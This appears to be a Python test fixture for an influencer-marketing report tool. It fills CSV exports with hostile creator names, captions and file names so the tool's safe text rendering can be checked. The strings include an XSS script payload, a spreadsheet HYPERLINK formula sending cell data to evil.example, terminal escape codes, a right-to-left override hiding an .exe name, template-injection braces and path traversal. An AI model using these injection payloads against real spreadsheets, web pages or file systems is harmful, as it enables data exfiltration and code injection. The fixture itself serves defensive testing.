"""A hostile client: creators, captions, comments, codes and files named to be run, obeyed, turned or filled in."""

from __future__ import annotations

import csv
import shutil
from datetime import date
from pathlib import Path
from typing import Any

from creatorbook import report
from creatorbook.client.repository import SAMPLE_DATA
from creatorbook.opening import open_book
from creatorbook.text.plain_text import for_page
from report_fixture import notebooks
from steps import run_stage

SCRIPT = "<img src=x onerror=window.__hostile__=1><script>window.__hostile__=2</script>"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"prize")'
TERMINAL = "\x1b]0;owned\x07\x1b[2Jred\x9b31m"
TURNED = "\u202egnp.exe\u2066"
BRACES = "{{7*7}}{%for x in y%}{0.__class__}${HOME}%s"
OUTSIDE = "../../../escaped"

#: creators' names and the notes on them
NAMES = (SCRIPT, LINK, TERMINAL, TURNED, BRACES, OUTSIDE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1")
#: names that a file system takes
FILES = (
    "=cmd '!A1.csv",
    "<img src=x onerror=window.__hostile__=3>.csv",
    "\x1b[2Jclear.csv",
    "\u202efdp.csv",
    "{{7*7}}.csv",
    "x..\\escaped.csv",
)


def client(folder: Path) -> Path:
    """The client folder, made from the thin sample client; every text a creator could choose is hostile."""
    made = folder / "hostile"
    shutil.copytree(SAMPLE_DATA / "northpin", made)
    exports = made / "exports"
    rows = [
        {
            "creator": name,
            "handle": f"creator.{place}",
            "platform": ("instagram", "tiktok")[place % 2],
            "followers": 5000 + place * 900,
            "fee": 40 + place,
            "code": f"CODE{place}" if place else "LENA10",
            "source": name,
            "biography": name,
            "deliverables": "1 reel",
            "posted_on": date(2026, 3, 9).isoformat(),
        }
        for place, name in enumerate(NAMES)
    ]
    _write(exports / "creators.csv", rows)
    comments = [
        {
            "post_id": str(100 + place),
            "handle": f"creator.{place}",
            "platform": ("instagram", "tiktok")[place % 2],
            "commenter": NAMES[-place],
            "commented_at": "2026-02-17 20:19:00",
            "text": name,
            "by_creator": "false",
        }
        for place, name in enumerate(NAMES)
    ]
    _write(exports / "comments.csv", comments)
    posts = [
        {
            "post_id": str(100 + place),
            "handle": f"creator.{place}",
            "platform": ("instagram", "tiktok")[place % 2],
            "date": f"2026-{month:02d}-{day:02d}",
            "likes": 120,
            "comments": 9,
            "views": 2500 + day,
            "caption": name if month == 2 else f"{name} CODE{place}",
        }
        for place, name in enumerate(NAMES)
        for month, day in ((2, 3), (2, 11), (2, 17), (3, 9))
    ]
    _write(exports / "posts.csv", posts)
    costs = [
        {
            "creator": name,
            "kind": "fee",
            "amount": 40 + place,
            "currency": "EUR",
            "date": "2026-02-20",
            "note": name,
        }
        for place, name in enumerate(NAMES)
    ]
    _write(exports / "costs.csv", costs)
    for number, name in enumerate(FILES):
        _write(exports / name, [{**row, "post_id": f"{number}-{row['post_id']}"} for row in comments])
    return made


def _write(path: Path, rows: list[dict[str, Any]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as target:
        writer = csv.DictWriter(target, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def printed(folder: Path, stage: str = "plan") -> tuple[Path, tuple[str, ...]]:
    """The hostile client's report in a folder, and the names that it must show as text."""
    made = client(folder / "client")
    book = open_book(made, stage=stage, mode="report")
    found = run_stage(made, stage)
    out = folder / "out"
    out.mkdir()
    report.build_report(out, book, notebooks(folder / "nb", stage, found), found)
    return out, (SCRIPT, LINK, BRACES, OUTSIDE, *FILES)


def visible(name: str) -> str:
    """A name as a page shows it: spaces run together, what would be obeyed is named."""
    return " ".join(for_page(name).split())
